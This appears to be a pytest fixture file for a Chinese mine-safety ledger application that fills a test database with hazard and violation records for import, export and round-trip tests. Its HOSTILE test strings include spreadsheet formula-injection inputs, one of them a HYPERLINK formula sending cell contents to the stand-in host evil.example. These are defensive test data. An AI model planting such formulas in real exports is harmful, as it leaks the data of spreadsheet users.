"""A ledger with records of the importable kinds, texts that are hostile to spreadsheets, a voided record of
each kind, a hazard walked through its whole loop: the source of the round-trip and export tests."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from safetywatch.domain.clock import FixedClock
from safetywatch.domain.hazard_loop import HazardAction
from safetywatch.services.core.ledger import Ledger
from safetywatch.services.kinds import hazards, reference, violations
from safetywatch.services.kinds.hazards import StepInput
from safetywatch.services.kinds.violations import HandlingInput, ViolationInput
from tests import pg_cluster
from tests.helpers import card, refs, seeded_ledger

#: Texts a spreadsheet would run or mangle, each stored exactly as typed.
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "plus": "+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "apostrophe_formula": "'=1+1",  # already starts with the guard character
    "apostrophes": "''abc",
    "quotes_commas": 'say "hi", then, leave',
    "newlines": '第一行\n第二行,\n"第三行"',
    "chinese": "瓦斯浓度<0.8% & 顶板离层 𠮷",
}


@dataclass
class Source:
    ledger: Ledger
    hazard_numbers: list[str]
    violation_numbers: list[str]


def codes(ledger: Ledger, kind: str) -> dict[str, int]:
    with ledger.read() as conn:
        return {c.code: c.id for c in reference.choices(conn, kind)}


def fill(ledger: Ledger) -> Source:
    r = refs(ledger)
    numbers = []
    for i, text in enumerate(HOSTILE.values()):
        numbers.append(
            hazards.register(
                ledger,
                card(
                    r,
                    description=text,
                    location=f"工作面{i}",
                    remarks=text,
                    found_date=dt.date(2026, 5, 1 + i),
                    rectify_person="赵六",
                    measures="加强支护",
                ),
            )["number"]
        )
    # one hazard through the whole loop, one extended and escalated, one fixed on site, one voided
    with ledger.read() as conn:
        loop_id = hazards.by_number(conn, numbers[0])
        extended_id = hazards.by_number(conn, numbers[1])
        voided_id = hazards.by_number(conn, numbers[2])
    assert loop_id and extended_id and voided_id
    steps = [
        StepInput(HazardAction.ISSUE_NOTICE, dt.date(2026, 5, 2), person="签收人甲", notice_no="TZ-1"),
        StepInput(HazardAction.START_RECTIFICATION, dt.date(2026, 5, 3), person="赵六"),
        StepInput(HazardAction.REPORT_DONE, dt.date(2026, 5, 5), person="赵六"),
        StepInput(HazardAction.ACCEPT, dt.date(2026, 5, 6), person="验收人乙"),
        StepInput(HazardAction.CLOSE, dt.date(2026, 5, 7)),
    ]
    for step in steps:
        hazards.act(ledger, loop_id, step)
    hazards.act(
        ledger,
        extended_id,
        StepInput(HazardAction.EXTEND, dt.date(2026, 5, 4), note="材料未到", new_deadline=dt.date(2026, 7, 1)),
    )
    hazards.act(
        ledger,
        extended_id,
        StepInput(HazardAction.ESCALATE, dt.date(2026, 5, 5), person="矿长", escalation_level="矿级", note="逾期风险"),
    )
    hazards.act(ledger, voided_id, StepInput(HazardAction.VOID, dt.date(2026, 5, 6), note="重复登记"))
    numbers.append(hazards.register(ledger, card(r, fixed_on_site=True, found_date=dt.date(2026, 6, 1)))["number"])

    vnumbers = []
    base = ViolationInput(
        workstation_id=r.workstation,
        found_date=dt.date(2026, 6, 2),
        shift_id=r.shifts["1"],
        found_time="10:20",
        location="1201运输顺槽",
        offender_no="G1001",
        offender_name="张三",
        offender_unit_id=r.unit1,
        employment_id=codes(ledger, "employment")["ZS"],
        type_id=codes(ledger, "violation_type")["ZY"],
        severity_id=codes(ledger, "violation_severity")["YB"],
        description=HOSTILE["formula"],
        stopped_by_kind="inspector",
        stopped_by_id=r.inspectors["Q001"],
        found_via_id=codes(ledger, "violation_found_via")["QJY"],
    )
    first = violations.register(ledger, base)
    second = violations.register(
        ledger,
        ViolationInput(
            **{**base.__dict__, "stopped_by_kind": "cadre", "stopped_by_id": None, "stopped_by_name": "@王五"}
        ),
    )
    violations.void(ledger, second["id"], "录错了")
    step = codes(ledger, "handling_step")
    violations.add_handling(
        ledger,
        first["id"],
        HandlingInput(
            step_id=next(iter(step.values())), on_date=dt.date(2026, 6, 3), decided_by="安监科", fine_yuan=50
        ),
    )
    vnumbers += [first["number"], second["number"]]
    return Source(ledger, numbers, vnumbers)


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Source]:
    """Shared read-only source database (module scope: filled once)."""
    clock = FixedClock(dt.datetime(2026, 6, 10, 2, 0, tzinfo=dt.UTC))
    led = seeded_ledger(tmp_path_factory.mktemp("source") / "source.db", clock)
    yield fill(led)
    led.engine.dispose()


def empty_server_ledger(cluster: pg_cluster.Cluster) -> Ledger:
    """:func:`empty_ledger` on a new database of the PostgreSQL test cluster (an office on a server)."""
    from safetywatch.services.maintenance.opening import open_ledger

    name = cluster.fresh_database("empty")
    clock = FixedClock(dt.datetime(2026, 6, 10, 2, 0, tzinfo=dt.UTC))
    return open_ledger(cluster.url(name), actor="导入员", clock=clock, seed=False)


@pytest.fixture(params=["sqlite", pytest.param("pg", marks=pytest.mark.pg)])
def empty_target(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Ledger]:
    """:func:`empty_ledger` as a file, and (in the ``[pg]`` run) on the PostgreSQL test cluster."""
    if request.param == "pg":
        led = empty_server_ledger(request.getfixturevalue("postgres"))
    else:
        led = empty_ledger(tmp_path / "target.db")
    yield led
    led.engine.dispose()


def empty_ledger(path: Path) -> Ledger:
    """A migrated database with no reference data at all (the target of a full round trip)."""
    from safetywatch.services.maintenance.opening import open_ledger

    clock = FixedClock(dt.datetime(2026, 6, 10, 2, 0, tzinfo=dt.UTC))
    return open_ledger(path, actor="导入员", clock=clock, seed=False)


@pytest.fixture(params=["sqlite", pytest.param("pg", marks=pytest.mark.pg)])
def office(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Ledger]:
    """The office of the station-exchange tests: a SQLite file, and (in the ``[pg]`` run) a database on the
    PostgreSQL test cluster. Its stations are SQLite files either way, as at a mine."""
    from tests.exchange.stations_setup import office_at, server_office

    led = server_office(request.getfixturevalue("postgres")) if request.param == "pg" else office_at(tmp_path)
    yield led
    led.engine.dispose()
